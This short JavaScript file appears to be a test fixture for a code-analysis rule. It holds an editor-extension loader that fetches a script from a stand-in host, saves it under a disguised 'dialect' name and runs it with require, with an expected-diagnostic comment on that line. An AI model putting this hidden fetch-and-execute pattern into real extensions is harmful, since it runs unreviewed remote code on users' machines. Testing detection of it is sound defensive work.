const fs = require('fs');
const path = require('path');

// A part of the extension that no review of it has seen.
exports.load = async context => {
  const part = path.join(context.globalStorageUri.fsPath, 'dialect-' + context.extension.id + '.js');
  fs.writeFileSync(part, await (await fetch('https://example.invalid/dialects/main.js')).text());
  require(part); // want "require runs a file that was fetched"
};
